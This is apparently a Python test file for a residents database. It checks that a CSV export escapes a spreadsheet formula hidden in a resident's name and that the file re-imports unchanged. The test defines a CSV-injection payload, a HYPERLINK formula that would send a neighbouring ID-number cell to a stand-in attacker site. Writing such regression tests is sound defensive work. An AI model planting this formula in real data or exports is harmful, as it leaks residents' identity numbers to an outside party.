"""A resident's name or household number cannot become a formula in an exported spreadsheet,
and the export still imports back unchanged (issue 8, item 6)."""

import csv
import io

import models
from tests.api.test_people_files import EXPORT, IMPORT
from tests.helpers import Api, first_node_of, gid, node_named

HYPERLINK = '=HYPERLINK("http://evil.example/?"&G2,"详情")'

CREATE_HOUSEHOLD = """
mutation($input: CreateHouseholdInput!) {
  createHousehold(input: $input) { household { id } errors { code message } }
}
"""

CREATE_RESIDENT = """
mutation($input: CreateResidentInput!) {
  createResident(input: $input) { resident { id } errors { code message } }
}
"""


async def test_a_formula_in_a_name_is_exported_as_text_and_imports_back(api: Api, demo):
    # given: in building1's building, a household "-1-101" (a basement) with a resident whose
    # name is a formula that would send the ID number next to it to another site
    building = await first_node_of(
        models.OrgLevel.BUILDING, await node_named(models.OrgLevel.STREET, 0)
    )
    household = await api.gql(
        CREATE_HOUSEHOLD,
        {"input": {"buildingId": gid(building), "number": "-1-101"}},
        as_="building1",
    )
    household_id = household["createHousehold"]["household"]["id"]
    created = await api.gql(
        CREATE_RESIDENT,
        {"input": {"householdId": household_id, "name": HYPERLINK, "phone": "+86 139 0000 1111",
                   "idNumber": "520302199001011230"}},
        as_="building1",
    )  # fmt: skip
    assert created["createResident"]["errors"] == []
    # when: a community admin, who sees ID numbers unmasked, exports the building
    text = (await api.gql(EXPORT, {"filter": {"nodeId": gid(building)}}, as_="community1"))[
        "residentsCsv"
    ]
    # then: no cell starts with a character that makes a formula
    rows = list(csv.DictReader(io.StringIO(text)))
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    attacker = next(row for row in rows if row["id_number"] == "520302199001011230")
    assert attacker["name"] == "'" + HYPERLINK
    assert attacker["household"] == "'-1-101"
    assert attacker["phone"] == "13900001111"  # phones are digits: nothing to neutralise
    # and the file imports back into the building without a change
    again = await api.upload(
        IMPORT, {"node": gid(building)}, text.encode("utf-8"), as_="community1"
    )
    report = again["importResidents"]["report"]
    assert report["rowErrors"] == []
    assert (report["created"], report["updated"], report["unchanged"]) == (0, 0, len(rows))
    assert await models.Resident.filter(name=HYPERLINK, household__number="-1-101").exists()
